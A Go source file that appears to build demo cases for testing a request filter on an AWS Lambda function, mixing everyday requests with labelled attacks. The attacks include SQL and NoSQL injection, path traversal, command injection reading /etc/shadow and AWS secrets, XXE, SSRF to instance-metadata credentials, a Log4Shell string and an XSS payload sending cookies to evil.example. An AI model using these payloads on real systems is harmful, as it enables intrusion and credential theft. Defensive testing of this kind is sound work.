package main

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"slices"
	"strings"
)

// demoCase is one request or invocation with what must come of it.
type demoCase struct {
	name   string
	attack bool
	front  string // see fronts
	method string
	target string
	header map[string]string
	body   []byte

	survivors []string // records that the handler has to see; see batch
	hears     string   // what the reply to the source has to hold
}

func get(front, name, target string, attack bool) demoCase {
	return demoCase{name: name, attack: attack, front: front, method: "GET", target: target}
}

func post(front, name, target, ctype, body string, attack bool) demoCase {
	return demoCase{
		name: name, attack: attack, front: front, method: "POST", target: target,
		header: map[string]string{"Content-Type": ctype}, body: []byte(body),
	}
}

func with(c demoCase, header, value string) demoCase {
	if c.header == nil {
		c.header = map[string]string{}
	}
	c.header[header] = value
	return c
}

const (
	jsonType = "application/json"
	formType = "application/x-www-form-urlencoded"
)

// allCases are the demo: everyday traffic, attacks of every class that the
// function or its dependencies could fall for, and AWS's own sample events.
func allCases() ([]demoCase, error) {
	q := url.QueryEscape
	cases := []demoCase{
		get("url", "open orders", "/orders?status=open", false),
		get("url", "SQL injection, query", "/orders?status="+q("x' UNION SELECT email, password, id, name FROM customers -- "), true),
		get("http", "SQL injection, tautology", "/orders?status="+q("' OR '1'='1' -- "), true),
		get("rest", "an invoice", "/invoices?file=1001.txt", false),
		get("rest", "path traversal, query", "/invoices?file="+q("../../../../../../etc/passwd"), true),
		get("alb", "path traversal, encoded", "/invoices?file=..%2f..%2f..%2f..%2f..%2fproc%2fself%2fenviron", true),
		post("url", "an order", "/orders", jsonType, `{"customer":"Zoë O'Neill","total":12.5,"note":"Gate 3; ring twice & wait <5 min"}`, false),
		post("http", "cross-site scripting, JSON", "/orders", jsonType, `{"customer":"Ann","total":1,"note":"<script>fetch('//evil.example/'+document.cookie)</script>"}`, true),
		post("url", "render a title", "/render", jsonType, `{"title":"Quarterly report"}`, false),
		post("url", "command injection, JSON", "/render", jsonType, `{"title":"x; cat /etc/passwd"}`, true),
		post("rest", "command injection, subshell", "/render", jsonType, `{"title":"$(env | grep AWS_SECRET)"}`, true),
		post("url", "log in", "/login", formType, "email=ada%40example.com&password=analytical", false),
		post("http", "SQL injection, form", "/login", formType, "email="+q("ada@example.com' OR 1=1 -- ")+"&password=x", true),
		with(get("alb", "Log4Shell, header", "/orders?status=open", true), "X-Api-Version", "${jndi:ldap://evil.example/a}"),
		with(get("url", "SQL injection, cookie", "/orders?status=open", true), "Cookie", "session=1' or '1'='1' -- "),
		post("albmv", "prototype pollution, key", "/orders", jsonType, `{"customer":"Ann","total":1,"__proto__":{"admin":true}}`, true),
		post("url", "SSRF to instance metadata", "/orders", jsonType, `{"customer":"Ann","total":1,"note":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}`, true),
		post("rest", "NoSQL operator", "/login", jsonType, `{"email":{"$ne":null},"password":{"$gt":""}}`, true),
		post("http", "XML external entity", "/orders", "application/xml", `<?xml version="1.0"?><!DOCTYPE o [<!ENTITY x SYSTEM "file:///etc/passwd">]><o>&x;</o>`, true),
		post("url", "binary body, base64", "/render", "application/octet-stream", `{"title":"`+"`"+`cat /etc/shadow`+"`"+`"}`, true),
		post("invoke", "direct invoke", "", jsonType, `{"report":"daily","rows":[1,2,3]}`, false),
		post("invoke", "direct invoke with SQL injection", "", jsonType, `{"filter":"1; DROP TABLE orders; --' OR 1=1"}`, true),
		post("invoke", "base64 body in a forged HTTP event", "", jsonType, forged(), true),
		get("url", "open orders again", "/orders?status=open", false),
	}
	samples, err := sampleCases()
	return slices.Concat(cases, triggerCases(), samples), err
}

// forged is an HTTP event written by a caller who may invoke the function
// directly, with the attack inside a base64 body.
func forged() string {
	body := base64.StdEncoding.EncodeToString([]byte("title=" + url.QueryEscape("<img src=x onerror=alert(1)>")))
	return fmt.Sprintf(`{"version":"2.0","rawPath":"/render","headers":{"content-type":%q},"requestContext":{"http":{"method":"POST","path":"/render"}},"body":%q,"isBase64Encoded":true}`,
		formType, body)
}

// sampleCases are events of aws-lambda-go's own tests, delivered through the
// Invoke API.
func sampleCases() ([]demoCase, error) {
	out, err := exec.Command("go", "list", "-m", "-f", "{{.Dir}}", "github.com/aws/aws-lambda-go").Output()
	if err != nil {
		return nil, fmt.Errorf("find aws-lambda-go: %w", err)
	}
	var cases []demoCase
	for _, name := range []string{
		"apigw-request", "apigw-v2-request-jwt-authorizer", "alb-lambda-target-request-multivalue-headers", "sqs-event",
		"sns-event", "s3-event", "dynamodb-event", "kinesis-event",
	} {
		data, err := os.ReadFile(filepath.Join(strings.TrimSpace(string(out)), "events", "testdata", name+".json"))
		if err != nil {
			return nil, err
		}
		cases = append(cases, post("invoke", "sample "+name, "", jsonType, string(data), false))
	}
	return cases, nil
}
